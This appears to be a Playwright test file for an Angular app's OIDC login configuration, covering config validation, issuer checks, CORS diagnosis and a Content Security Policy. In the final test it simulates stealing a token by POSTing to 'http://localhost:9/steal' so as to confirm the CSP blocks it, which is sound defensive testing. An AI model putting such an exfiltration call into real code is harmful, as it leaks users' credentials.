import { expect, test } from './fixtures';
import { policyNonce } from './helpers/first-paint';
import { API, ISSUER } from './helpers/stack';

const VALID = {
  issuer: ISSUER,
  clientId: 'demo-spa',
  scope: 'openid profile offline_access api',
  apis: [{ origin: API, pathPrefix: '/api' }],
};

async function serveConfig(
  page: import('@playwright/test').Page,
  config: unknown,
): Promise<string[]> {
  const console: string[] = [];
  page.on('console', (message) => console.push(message.text()));
  await page.route('**/auth.config.json', (route) => route.fulfill({ json: config }));
  return console;
}

test('a config with a typo shows a clear message naming the field, and the app does not start', async ({
  page,
}) => {
  const { clientId, ...withoutClientId } = VALID;
  const console = await serveConfig(page, { ...withoutClientId, clientID: clientId });
  await page.goto('/dashboard');

  const status = page.locator('#boot-status');
  await expect(status).toHaveAttribute('role', 'alert');
  await expect(status).toContainText(
    'Invalid auth configuration: "clientID" is not a known setting (did you mean "clientId"?)',
  );
  await expect(page.locator('app-root')).toBeEmpty();
  expect(console.join('\n')).toContain('clientID');
});

test('an http: issuer that is not loopback is refused before any request to it', async ({
  page,
}) => {
  const requests: string[] = [];
  page.on('request', (request) => requests.push(request.url()));
  await serveConfig(page, { ...VALID, issuer: 'http://sso.example.com' });
  await page.goto('/');
  await expect(page.locator('#boot-status')).toContainText('"issuer" must use https:');
  expect(requests.filter((url) => url.includes('sso.example.com'))).toEqual([]);
});

test('an unreachable provider no longer stops start-up: the app renders and the login page says the provider cannot be reached', async ({
  page,
}) => {
  await serveConfig(page, { ...VALID, issuer: 'http://localhost:9' });
  await page.goto('/login');
  await expect(page.getByRole('heading', { name: 'Sign in' })).toBeVisible();
  await page.getByRole('button', { name: 'Sign in' }).click();
  await expect(page.getByTestId('provider-unreachable')).toContainText(
    'The identity provider cannot be reached right now',
  );
  await expect(page.getByRole('button', { name: 'Try again' })).toBeVisible();
  await expect(page.getByTestId('login-diagnosis')).toHaveCount(0);
});

test("a provider that answers but not to the app's origin (CORS off): the login page names CORS, not an outage", async ({
  page,
  request,
}) => {
  // The real discovery document, allowed for another origin only: the provider is up, the browser
  // may not read its answer. (Playwright adds CORS headers to a fulfilled answer without any.)
  const discovery = await (await request.get(`${ISSUER}/.well-known/openid-configuration`)).json();
  let discoveryRequests = 0;
  await page.route(`${ISSUER}/.well-known/openid-configuration`, (route) => {
    discoveryRequests += 1;
    return route.fulfill({
      json: discovery,
      headers: { 'Access-Control-Allow-Origin': 'https://another-app.example' },
    });
  });
  await serveConfig(page, VALID);
  await page.goto('/login');
  await page.getByRole('button', { name: 'Sign in' }).click();

  await expect(page.getByTestId('login-error')).toContainText(
    "it does not allow this app's origin (CORS)",
  );
  await expect(page.getByTestId('login-diagnosis')).toContainText('discovery-cors');
  await expect(page.getByTestId('provider-unreachable')).toHaveCount(0);
  // The app's discovery request and the one no-cors probe that told CORS from an outage.
  expect(discoveryRequests).toBe(2);
  expect(page.url()).toContain('/login');
});

test('a provider whose discovery does not match the issuer is refused at sign-in, naming the issuer', async ({
  page,
}) => {
  await serveConfig(page, { ...VALID, issuer: `${ISSUER}/` });
  await page.goto('/login');
  await page.getByRole('button', { name: 'Sign in' }).click();
  await expect(page.getByTestId('login-error')).toContainText('"issuer"');
  await expect(page.getByTestId('login-diagnosis')).toContainText('issuer-match');
  expect(page.url()).toContain('/login');
});

test('the production build is served with a CSP that lets requests go only to this origin, the provider and the API', async ({
  page,
}) => {
  const violations: string[] = [];
  page.on(
    'console',
    (message) =>
      message.text().includes('Content Security Policy') && violations.push(message.text()),
  );
  const response = await page.goto('/');
  const csp = response!.headers()['content-security-policy'];
  expect(csp).toContain(`connect-src 'self' ${ISSUER} ${API}`);
  expect(csp).toContain("object-src 'none'");
  // Scripts: only those carrying this response's nonce, and what they load ('strict-dynamic').
  // (Angular's autoCsp put this part in a <meta> of index.html; it cannot hash server-rendered
  // pages, so the header carries the whole policy.)
  const nonce = policyNonce(csp);
  expect(await page.locator('script[src*="main-"]').evaluate((script) => script.nonce)).toBe(nonce);
  await expect(
    page.getByRole('heading', { name: 'Stay signed in, without noticing' }),
  ).toBeVisible();
  expect(violations).toEqual([]);

  const exfiltration = await page.evaluate(() =>
    fetch('http://localhost:9/steal', { method: 'POST', body: 'token' }).then(
      () => 'sent',
      () => 'blocked',
    ),
  );
  expect(exfiltration).toBe('blocked');
  await expect.poll(() => violations.join('\n')).toContain('connect-src');
});
